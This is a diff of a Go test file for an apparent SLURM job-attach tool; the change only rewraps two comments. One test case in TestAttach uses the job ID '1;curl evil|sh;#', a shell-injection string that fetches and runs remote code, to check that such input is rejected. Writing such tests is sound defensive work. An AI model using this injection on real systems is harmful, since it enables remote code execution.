@@ -37,8 +37,8 @@ func TestCopyKeys(t *testing.T) {
 	}
 }
 
-// srun takes the number of a job, also where its ID is another one. Without a job that SLURM lists there is no such command: what a node says could
-// be any command.
+// srun takes the number of a job, also where its ID is another one. Without a job that SLURM lists there is no such
+// command: what a node says could be any command.
 func TestAttach(t *testing.T) {
 	s := scene(100, 20, noon)
 	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
@@ -48,7 +48,8 @@ func TestAttach(t *testing.T) {
 	}
 }
 
-// Behind a login host the shell starts there, as the user who is known there. Where a word may mean something to a shell it is quoted.
+// Behind a login host the shell starts there, as the user who is known there. Where a word may mean something to a
+// shell it is quoted.
 func TestAttachThroughALoginHost(t *testing.T) {
 	for _, test := range []struct{ login, user, route, want string }{
 		{"", "alice", "ssh", "ssh -t n1"},
